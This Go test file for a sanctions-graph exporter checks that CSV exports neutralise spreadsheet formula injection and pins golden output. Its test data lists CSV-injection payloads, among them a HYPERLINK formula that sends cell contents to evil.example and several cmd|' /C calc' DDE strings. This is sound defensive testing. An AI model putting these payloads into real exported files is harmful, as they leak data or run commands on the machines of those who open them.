package export_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/sanctionsgraph/sanctionsgraph/graph"
	"github.com/sanctionsgraph/sanctionsgraph/graph/export"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

// TestGolden pins each format's output for the test subgraph, so a change
// to an encoder shows as a diff to review. Refresh with go test -update.
// The CSV zip is pinned by the files inside it.
func TestGolden(t *testing.T) {
	sg := testSubgraph(true)
	for _, f := range export.Formats() {
		t.Run(string(f), func(t *testing.T) {
			got := encode(t, f, sg)
			if f == export.CSV {
				zr, err := zip.NewReader(bytes.NewReader(got), int64(len(got)))
				if err != nil {
					t.Fatal(err)
				}
				var all bytes.Buffer
				for _, zf := range zr.File {
					rc, err := zf.Open()
					if err != nil {
						t.Fatal(err)
					}
					all.WriteString("== " + zf.Name + "\n")
					io.Copy(&all, rc)
					rc.Close()
				}
				got = all.Bytes()
			}
			path := filepath.Join("testdata", "hostile."+f.Extension()+".golden")
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("%s output differs from %s; run go test -update and review the diff", f, path)
			}
		})
	}
}

// formulas are cell values that a spreadsheet runs as formulas when a CSV
// is opened (OWASP "CSV Injection"), and values that look like them but
// are not.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"＝HYPERLINK(\"https://evil.example\")",
	"-1.5",
	"Smith = Jones",
}

// formulaSubgraph holds an entity per formula, named by it, with it as an
// alias, a country, a record id and a relationship role, and an entity
// whose id is one.
func formulaSubgraph() *export.Subgraph {
	sg := &export.Subgraph{Query: "=cmd|' /C calc'!A0"}
	hub := entity("=HYPERLINK(\"https://evil.example\")", "Company", "Hub Holdings", nil)
	sg.Nodes = append(sg.Nodes, &export.Node{Entity: hub, Records: []*graph.Entity{hub}, Seed: true})
	for i, f := range formulas {
		ref := fmt.Sprintf("formula-%d", i)
		e := entity(ref, "Person", f, map[string][]string{"alias": {"Plain Alias", f}, "country": {f}})
		sg.Nodes = append(sg.Nodes, &export.Node{Entity: e, Records: []*graph.Entity{e}})
		sg.Relationships = append(sg.Relationships, &graph.Relationship{ID: graph.KeyFor(ref + "-rel"), Ref: f, Kind: graph.RelOwns,
			Schema: "Ownership", Source: hub.ID, Target: e.ID, SourceRef: hub.Ref, TargetRef: ref,
			Props:   map[string][]string{"role": {f}, "startDate": {f}, "percentage": {"-0"}},
			Sources: []graph.Source{{Dataset: f, URL: "https://example.org/" + ref}}})
	}
	sg.Finish()
	return sg
}

// csvFiles returns the files of a CSV export zip.
func csvFiles(t *testing.T, out []byte) []*zip.File {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	return zr.File
}

// TestCSVFormulas pins the CSV export of values a spreadsheet would run as
// formulas (testdata/formulas.csv.golden; refresh with go test -update),
// and checks that no cell of it starts as a formula: each such value
// starts with ' (plain numbers such as -1.5 are kept).
func TestCSVFormulas(t *testing.T) {
	out := encode(t, export.CSV, formulaSubgraph())
	var all bytes.Buffer
	for _, zf := range csvFiles(t, out) {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		all.WriteString("== " + zf.Name + "\n")
		all.Write(b)
		if !strings.HasSuffix(zf.Name, ".csv") {
			continue
		}
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", zf.Name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if r, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r＝＋－＠", r) && cell != "-1.5" && cell != "-0" {
					t.Errorf("%s: cell %q starts as a formula (row %q)", zf.Name, cell, row)
				}
			}
		}
	}
	got := all.Bytes()
	path := filepath.Join("testdata", "formulas.csv.golden")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("CSV output differs from %s; run go test -update and review the diff", path)
	}
}
